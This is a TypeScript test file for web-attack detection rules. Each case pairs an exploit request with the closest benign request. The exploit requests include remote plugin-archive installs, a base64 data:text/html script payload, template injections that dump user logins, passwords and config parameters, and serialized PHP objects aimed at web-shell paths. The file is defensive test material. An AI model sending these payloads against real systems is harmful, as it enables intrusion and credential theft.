/**
 * Bundled rules of rev 2026-12-15e (issues 14 and 18, session 34, ho34): mechanisms held-out-27's misses showed (read),
 * each written for the class rather than the product and kept only with no benign hit. Each fires on its attack, sent
 * the way such an exploit sends it, and stays quiet on the benign request closest to it: a plugin's page URL, an archive
 * link in a description, a data:image URI, data:text/html named without content, a template reading a record's field
 * and a stock template's sudo().get_param('web.base.url'), a serialized object of plain data and a log path outside a web root.
 */
import { describe } from 'vitest';
import { type RuleCase, testPrefilterEntries, testRuleCases, useBundledRuleSet, get, multipart, postForm, postJson } from './bundled-requests.js';

const { hits, rules } = useBundledRuleSet();

const CASES: RuleCase[] = [
  [9000519, 'block', 'a CMS installer handed a remote archive URL', postForm('/admin/installer/manual', 'project_url=https%3A%2F%2Fdl.example.net%2Fx.tar.gz&project_upload=&op=Install&form_id=installer_manager_install_form'), postForm('/admin/installer/manual', 'project_url=https%3A%2F%2Fbackdropcms.org%2Fproject%2Fwebform&op=Install')],
  [9000519, 'block', 'a CI server deploying a plugin from a URL (multipart)', multipart('pluginUrl', 'http://203.0.113.7:8000/p.hpi'), multipart('description', 'get it from http://203.0.113.7:8000/p.hpi')],
  [9000519, 'block', 'a JSON archive_url of a zip', postJson('/api/plugins/install', '{"archive_url": "https://cdn.example.org/theme.zip"}'), postJson('/api/notes', '{"text": "archive at https://cdn.example.org/theme.zip"}')],
  [9000290, 'block', 'a resource link that is a base64 HTML page', postJson('/api/v1/resources', '{"filename":"a.html","externalLink":"DATA:text/html;charset=utf-8;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="}'), postJson('/api/v1/resources', '{"filename":"a.png","externalLink":"data:image/png;base64,iVBORw0KGgoAAAANSUhEUg=="}')],
  [9000290, 'block', 'a Markdown link to a plain data:text/html page', postJson('/api/v3/topics', '{"content":"see [log](data:text/html,<script>alert(1)</script>)"}'), postJson('/api/v3/topics', '{"content":"why does data:text/html open a blank tab in Firefox?"}')],
  [9000793, 'block', 'a mail template running raw SQL through env.cr', postJson('/web/dataset/call_kw', '{"params":{"model":"mail.template","method":"write","args":[[5],{"body_html":"<p>${object.env.cr.execute(\'SELECT login, password FROM res_users\') or object.env.cr.fetchall()}</p>"}]}}'), postJson('/web/dataset/call_kw', '{"params":{"model":"mail.template","method":"write","args":[[5],{"body_html":"<p>Dear {{ object.partner_id.name }}</p>"}]}}')],
  [9000793, 'block', 'a QWeb t-esc reading every parameter as superuser', postJson('/web/dataset/call_kw', '{"params":{"args":[[3],{"subject":"<t t-esc=\\"object.env[\'ir.config_parameter\'].sudo().search([]).mapped(\'value\')\\"/>"}]}}'), postJson('/web/dataset/call_kw', '{"params":{"args":[[3],{"body_html":"<a href=\\"${object.env[\'ir.config_parameter\'].sudo().get_param(\'web.base.url\')}/web\\">Open</a>"}]}}')],
  [9000793, 'block', 'a Jinja expression listing password hashes', postJson('/api/templates', '{"body":"{{ object.env[\'res.users\'].sudo().search([]).mapped(\'password\') }}"}'), postJson('/api/templates', '{"body":"{{ object.env[\'res.partner\'].browse(3).name }}"}')],
  [9001093, 'block', 'a session cookie holding an object aimed at a PHP file in the web root', get('/dashboard', [['Cookie', `ci_session=${encodeURIComponent('a:2:{s:10:"session_id";s:4:"ab12";s:9:"user_data";O:11:"CI_Sessions":1:{s:4:"file";s:31:"/var/www/html/uploads/dktiy.php";}}')}0123456789abcdef0123456789abcdef`]]), get('/dashboard', [['Cookie', `ci_session=${encodeURIComponent('a:2:{s:10:"session_id";s:4:"ab12";s:9:"user_data";O:8:"stdClass":1:{s:4:"view";s:9:"index.php";}}')}0123456789abcdef0123456789abcdef`]])],
  [9001093, 'block', 'a form value holding an object with a Windows web-root path', postForm('/import', `data=${encodeURIComponent('O:6:"Logger":1:{s:8:"log_path";s:31:"C:\\inetpub\\wwwroot\\shell.aspx";}')}`), postForm('/import', `data=${encodeURIComponent('O:6:"Logger":1:{s:8:"log_path";s:21:"C:\\logs\\app-2026.log";}')}`)],
];

describe('bundled rules from held-out-27\'s misses (rev 2026-12-15e)', () => {
  testRuleCases(CASES, hits);
  testPrefilterEntries(CASES.map(([sid]) => sid), rules);
});
